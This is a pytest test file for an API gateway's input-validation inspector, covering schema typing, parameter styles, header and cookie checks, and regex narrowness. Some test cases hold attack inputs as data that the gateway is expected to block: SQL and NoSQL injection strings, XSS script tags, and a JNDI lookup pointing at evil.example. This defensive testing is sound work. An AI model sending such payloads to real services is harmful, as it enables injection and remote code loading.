from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from assay.gateway import ir
from assay.gateway.inspector.decision import Decision
from assay.gateway.inspector.operation import Operation
from assay.gateway.inspector.parameters import readings
from assay.gateway.inspector.schemas import TYPES, Library, has_free_text, is_narrow

Send = Callable[..., Decision]
Make = Callable[..., Operation]
Rule = Callable[..., ir.ParameterRule]
SHARED = settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])

INTEGER = {"type": "integer", "minimum": 1, "maximum": 100}
INTEGERS = {"type": "array", "items": {"type": "integer"}, "maxItems": 3}
COLOUR = {
    "type": "object",
    "properties": {"R": {"type": "integer"}, "G": {"type": "integer"}, "name": {"type": "string", "maxLength": 5}},
    "required": ["R"],
    "additionalProperties": False,
}
BOTH = {"anyOf": [{"type": "integer", "maximum": 3}, {"type": "string", "enum": ["7", "all"]}]}


@pytest.mark.parametrize(
    ("query", "policy"),
    [
        (b"limit=10", ""),
        (b"limit=%31%30", ""),
        (b"", ""),
        (b"&&limit=10&", ""),
        (b"limit=0", "query-schema"),
        (b"limit=101", "query-schema"),
        (b"limit=010", "query-schema"),
        (b"limit=%2B5", "query-schema"),
        (b"limit=0x1", "query-schema"),
        (b"limit=5.0", "query-schema"),
        (b"limit=1e1", "query-schema"),
        (b"limit=", "query-schema"),
        (b"limit", "query-schema"),
        ("limit=٣".encode(), "query-schema"),
        (b"limit=" + b"9" * 60, "query-schema"),
        (b"limit=5&limit=6", "query-duplicate"),
        (b"limit=5&%6Cimit=6", "query-duplicate"),
        (b"Limit=5", "query-undeclared"),
        (b"limit[]=5", "query-undeclared"),
        (b"offset=5", "query-undeclared"),
        (b"limit=5;offset=6", "query-encoding"),
        (b"limit=%", "query-encoding"),
        (b"limit=%1", "query-encoding"),
        (b"limit=%u0031", "query-encoding"),
        (b"q=%c0%af", "query-encoding"),
        (b"q=%ff", "query-encoding"),
        (b"q=\xff", "query-encoding"),
        (b"q=%00", "query-encoding"),
        (b"q=a%08", "query-encoding"),
        (b"=5", "query-encoding"),
        (b"&".join(b"limit=1" for _ in range(1001)), "query-encoding"),
        (b"q=blue+shoes%20%26%20more", ""),
        (b"q=%27+OR+1%3D1+--", "injection-sql"),
        (b"q=%2527%2520OR%25201%253D1%2520--", "injection-sql"),
        (b"_method=DELETE", "method-override"),
        (b"user[$ne]=1", "injection-nosql"),
        (b"code=AB-12", ""),
        (b"code=AB-12%27", "query-schema"),
        (b"both=2", ""),
        (b"both=7", ""),
        (b"both=all", ""),
        (b"both=8", "query-schema"),
        (b"maybe=null", ""),
        (b"maybe=5", ""),
        (b"maybe=x", "query-schema"),
        (b"flag=true", ""),
        (b"flag=True", "query-schema"),
        (b"flag=1", "query-schema"),
        (b"empty", ""),
        (b"empty=", ""),
        (b"ratio=1.5e2", ""),
        (b"ratio=1e999", "query-schema"),
        (b"ratio=NaN", "query-schema"),
        (b"ratio=.5", "query-schema"),
    ],
)
def test_query_parameters_are_typed_and_closed(
    compiled: Make, parameter: Rule, send: Send, query: bytes, policy: str
) -> None:
    operation = compiled(
        parameters=(
            parameter("limit", INTEGER),
            parameter("q", {"type": "string", "maxLength": 60}),
            parameter("code", {"type": "string", "pattern": "^[A-Z]{2}-[0-9]+$"}),
            parameter("both", BOTH),
            parameter("maybe", {"type": ["integer", "null"]}),
            parameter("flag", {"type": "boolean"}),
            parameter("empty", {"type": "integer"}, allow_empty=True),
            parameter("ratio", {"type": "number"}),
        )
    )
    assert send(operation, query=query).policy == (f"input_validation/{policy}" if policy else "")


@pytest.mark.parametrize(
    ("style", "explode", "query", "allowed"),
    [
        ("form", True, b"id=1&id=2", True),
        ("form", True, b"id=1", True),
        ("form", True, b"id=1&id=x", False),
        ("form", True, b"id=1&id=2&id=3&id=4", False),
        ("form", True, b"id=1,2", False),
        ("form", False, b"id=1,2", True),
        ("form", False, b"id=1%2C2", True),
        ("form", False, b"id=1,x", False),
        ("form", False, b"id=1&id=2", False),
        ("spaceDelimited", False, b"id=1%202+3", True),
        ("spaceDelimited", False, b"id=1,2", False),
        ("pipeDelimited", False, b"id=1|2%7C3", True),
    ],
)
def test_array_styles(
    compiled: Make, parameter: Rule, send: Send, style: str, explode: bool, query: bytes, allowed: bool
) -> None:
    operation = compiled(parameters=(parameter("id", INTEGERS, style=style, explode=explode),))
    assert send(operation, query=query).allowed is allowed


@pytest.mark.parametrize(
    ("style", "explode", "query", "allowed"),
    [
        ("deepObject", True, b"c[R]=1&c[name]=red", True),
        ("deepObject", True, b"c%5BR%5D=1", True),
        ("deepObject", True, b"c[R]=x", False),
        ("deepObject", True, b"c[G]=1", False),
        ("deepObject", True, b"c[R]=1&c[R]=2", False),
        ("deepObject", True, b"c[R]=1&c[x]=2", False),
        ("deepObject", True, b"c[R][x]=1", False),
        ("deepObject", True, b"c[$ne]=1", False),
        ("deepObject", True, b"c=1", False),
        ("form", True, b"R=1&G=2", True),
        ("form", True, b"R=1&R=2", False),
        ("form", True, b"G=2", False),
        ("form", True, b"R=1&B=2", False),
        ("form", False, b"c=R,1,G,2", True),
        ("form", False, b"c=R,1,G", False),
        ("form", False, b"c=R,1,R,2", False),
        ("form", False, b"c=R,x", False),
    ],
)
def test_object_styles(
    compiled: Make, parameter: Rule, send: Send, style: str, explode: bool, query: bytes, allowed: bool
) -> None:
    operation = compiled(parameters=(parameter("c", COLOUR, style=style, explode=explode),))
    assert send(operation, query=query).allowed is allowed


def test_members_that_are_arrays_are_typed(compiled: Make, parameter: Rule, send: Send) -> None:
    schema = {"type": "object", "properties": {"id": INTEGERS}, "additionalProperties": False}
    operation = compiled(parameters=(parameter("f", schema, style="deepObject"),))
    assert send(operation, query=b"f[id]=1&f[id]=2").allowed
    assert not send(operation, query=b"f[id]=1&f[id]=x").allowed


def test_a_json_parameter_is_read_as_strictly_as_a_body(compiled: Make, parameter: Rule, send: Send) -> None:
    operation = compiled(parameters=(parameter("f", COLOUR, media_type="application/json"),))
    assert send(operation, query=b"f=%7B%22R%22:1%7D").allowed
    assert send(operation, query=b"f=%7B%22R%22:1,%22R%22:2%7D").policy == "input_validation/body-json"
    assert send(operation, query=b"f=%7B%22G%22:1%7D").policy == "input_validation/query-schema"


def test_required_parameters_must_come(compiled: Make, parameter: Rule, send: Send) -> None:
    for location in ("query", "header", "cookie"):
        found = send(compiled(parameters=(parameter("X-Key", {"type": "string"}, location, required=True),)))
        assert (found.status, found.policy) == (400, f"input_validation/{location}-missing")
        assert "X-Key".lower() in found.detail.lower()
    deep = compiled(parameters=(parameter("c", COLOUR, style="deepObject", required=True),))
    assert send(deep).policy == "input_validation/query-missing"


def test_an_open_query_lets_unknown_parameters_pass_but_searches_them(
    compiled: Make, parameter: Rule, send: Send
) -> None:
    operation = compiled(parameters=(parameter("limit", INTEGER),), closed_query=False)
    assert send(operation, query=b"limit=5&utm_source=mail&x[]=1").allowed
    assert send(operation, query=b"x=%3Cscript%3Ealert(1)%3C/script%3E").status == 403
    assert send(operation, query=b"%3Cscript%3Ealert(1)%3C/script%3E=1").status == 403
    # What some servers would take for the declared parameter is no unknown one.
    assert send(operation, query=b"limit=5&LIMIT=999").policy == "input_validation/query-undeclared"
    assert send(operation, query=b"limit=5&limit[]=999").policy == "input_validation/query-undeclared"


def test_headers_are_validated_by_their_bytes(compiled: Make, parameter: Rule, send: Send) -> None:
    operation = compiled(
        parameters=(
            parameter("X-Count", INTEGER, "header"),
            parameter("X-Ids", INTEGERS, "header"),
            parameter("X-Colour", COLOUR, "header", explode=True),
            parameter("X-Note", {"type": "string", "maxLength": 40}, "header"),
        )
    )
    assert send(
        operation, headers={"X-Count": " 5 ", "X-Ids": "1, 2", "X-Colour": "R=1,G=2", "X-Note": "Größe"}
    ).allowed
    assert send(operation, lines=((b"x-ids", b"1"), (b"x-ids", b"2"))).allowed
    for headers, policy in (
        ({"X-Count": "five"}, "header-schema"),
        ({"X-Ids": "1, x"}, "header-schema"),
        ({"X-Colour": "R=1,B=2"}, "header-schema"),
        ({"X-Note": b"\xff"}, "header-encoding"),
        ({"X-Note": b"a\x01"}, "header-encoding"),
        ({"X-Note": "x' OR 1=1 --"}, "injection-sql"),
    ):
        assert send(operation, headers=headers).policy == f"input_validation/{policy}"
    found = send(operation, lines=((b"x-count", b"5"), (b"x-count", b"\xff")))
    assert not found.allowed
    assert send(operation, lines=((b"x-count", b"5"), (b"x-count", b"6"))).policy == "input_validation/header-duplicate"


def test_cookies_are_validated(compiled: Make, parameter: Rule, send: Send) -> None:
    operation = compiled(
        parameters=(parameter("page", INTEGER, "cookie"), parameter("t", {"type": "string"}, "cookie"))
    )
    assert send(operation, headers={"cookie": 'other=%zz; page=5; t="a b"'}).allowed
    assert send(operation, headers={"cookie": "page=x"}).policy == "input_validation/cookie-schema"
    assert send(operation, headers={"cookie": "page=5; page=6"}).policy == "input_validation/cookie-duplicate"
    assert send(operation, headers={"cookie": "t=%zz"}).policy == "input_validation/cookie-encoding"
    assert send(operation, headers={"cookie": "t=%3Cscript%3Ealert(1)%3C/script%3E"}).status == 403
    assert send(operation, lines=((b"cookie", b"page=5"), (b"cookie", b"page=6"))).status == 400


@pytest.mark.parametrize("name", ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"])
def test_method_overrides_are_refused_unless_declared(compiled: Make, parameter: Rule, send: Send, name: str) -> None:
    assert send(compiled(), headers={name: "DELETE"}).policy == "input_validation/method-override"
    assert send(compiled(), headers={name: b"\xff"}).policy == "input_validation/method-override"
    declared = compiled(parameters=(parameter(name, {"enum": ["PATCH"]}, "header"),))
    assert send(declared, headers={name: "PATCH"}).allowed
    assert not send(declared, headers={name: "DELETE"}).allowed


def test_closed_headers_accept_what_http_needs_and_nothing_unknown(compiled: Make, parameter: Rule, send: Send) -> None:
    operation = compiled(
        parameters=(parameter("X-Count", INTEGER, "header"),), closed_headers=True, key_header="X-API-Key"
    )
    usual = {"Host": "a", "User-Agent": "b", "Accept": "*/*", "X-Request-Id": "1", "Sec-Fetch-Mode": "cors",
             "X-Count": "5", "X-API-Key": "k", "x-assay-operation": "crm/create",
             "Authorization": "Bearer x"}  # fmt: skip
    assert send(operation, headers=usual).allowed
    assert send(operation, headers=usual | {"X-Admin": "1"}).policy == "input_validation/header-undeclared"


def test_lookups_in_any_header_are_refused(compiled: Make, send: Send) -> None:
    assert (
        send(compiled(), headers={"User-Agent": "${jndi:ldap://evil.example/a}"}).policy
        == "input_validation/injection-jndi"
    )
    assert send(compiled(), headers={"User-Agent": "Mozilla/5.0 (X11; Linux) ${name}"}).allowed
    assert send(compiled(injection=False), headers={"User-Agent": "${jndi:ldap://evil.example/a}"}).allowed


def test_path_parameters_are_left_to_the_typed_route(compiled: Make, parameter: Rule, send: Send) -> None:
    assert send(compiled(parameters=(parameter("id", INTEGER, "path", required=True),))).allowed


@SHARED
@given(query=st.binary(max_size=60), header=st.binary(max_size=30), cookie=st.binary(max_size=40))
def test_random_parameters_are_decided_and_never_break(
    compiled: Make, parameter: Rule, send: Send, query: bytes, header: bytes, cookie: bytes
) -> None:
    operation = _everything(compiled, parameter)
    for prefix in (b"", b"c[", b"q=", b"id=", b"R="):
        found = send(
            operation, query=prefix + query, lines=((b"x-ids", header), (b"cookie", b"t=" + cookie), (header, query))
        )
        assert found.status in (200, 400, 403)


_CACHE: dict[str, Operation] = {}


def _everything(compiled: Make, parameter: Rule) -> Operation:
    if "all" not in _CACHE:
        _CACHE["all"] = compiled(
            parameters=(
                parameter("q", True),
                parameter("id", INTEGERS, explode=False),
                parameter("c", COLOUR, style="deepObject"),
                parameter("s", COLOUR),
                parameter("j", COLOUR, media_type="application/json"),
                parameter("x-ids", INTEGERS, "header"),
                parameter("t", BOTH, "cookie"),
            ),
            closed_query=False,
            closed_headers=False,
        )
    return _CACHE["all"]


@SHARED
@given(
    value=st.none() | st.booleans() | st.integers(-(10**38), 10**38) | st.floats(allow_nan=False, allow_infinity=False)
)
def test_every_scalar_is_read_back_as_it_was_written(value: Any) -> None:
    import json

    assert value in readings(json.dumps(value), frozenset(TYPES))


@pytest.mark.parametrize(
    "pattern", ["^[A-Z]{2}-[0-9]+$", "^c-\\d{1,8}$", "^(?:abc|x[a-f0-9]*)$", "^\\w+$", "^[a-z0-9_-]+$"]
)
def test_narrow_patterns_are_recognised(pattern: str) -> None:
    assert is_narrow(pattern)


@pytest.mark.parametrize(
    "pattern",
    ["[a-z]+", "^a|b$", "^.*$", "^[^;]+$", "^[ -~]+$", "^[+-z]+$", "^\\S+$", "^a.b$", "^[a-z']+$", "^[<]$", "^x\\$",
     "^(a|.)$", "^[\\s\\S]*$", "^(?=a).+$", "^\\D$", "^['\"]?$", "^[!-/]$"],
)  # fmt: skip
def test_other_patterns_are_not_narrow(pattern: str) -> None:
    assert not is_narrow(pattern)


@SHARED
@given(data=st.data())
def test_no_narrow_pattern_admits_what_an_injection_needs(data: st.DataObject) -> None:
    pieces = [
        "[a-z]",
        "[A-Z0-9_-]",
        "\\d",
        "\\w",
        "(?:ab|c)",
        "x",
        "-",
        "[+-z]",
        "[^a]",
        ".",
        "\\s",
        "[ -~]",
        "'",
        "{1,3}",
        "*",
        "+",
        "|",
    ]
    body = "".join(data.draw(st.lists(st.sampled_from(pieces), min_size=1, max_size=5)))
    pattern = f"^{body}$"
    if is_narrow(pattern):
        import re

        try:
            expression = re.compile(pattern)
        except re.error:
            return
        for text in ("'", '"', "<", ">", ";", "(", "{", "$", "`", "|", "&", "=", "%"):
            assert not re.search(expression, text)
            assert not re.search(expression, f"a{text}a")


@pytest.mark.parametrize(
    ("schema", "free"),
    [
        (True, True),
        ({}, True),
        ({"type": "string"}, True),
        ({"type": "string", "maxLength": 40}, True),
        ({"type": "string", "format": "uuid"}, False),
        ({"type": "string", "format": "password"}, True),
        ({"type": "string", "format": "uri"}, True),
        ({"enum": ["a"]}, False),
        ({"type": "integer"}, False),
        ({"type": "array", "items": {"type": "integer"}}, False),
        ({"type": "array", "items": {"type": "string"}}, True),
        ({"type": "object"}, True),
        ({"type": "object", "properties": {"a": {"type": "integer"}}, "additionalProperties": False}, False),
        ({"anyOf": [{"type": "integer"}, {"type": "string", "format": "date"}]}, False),
        ({"$ref": "#/$defs/Missing"}, True),
        (False, False),
    ],
)
def test_free_text_is_what_nothing_else_bounds(schema: Any, free: bool) -> None:
    assert has_free_text(schema, Library()) is free
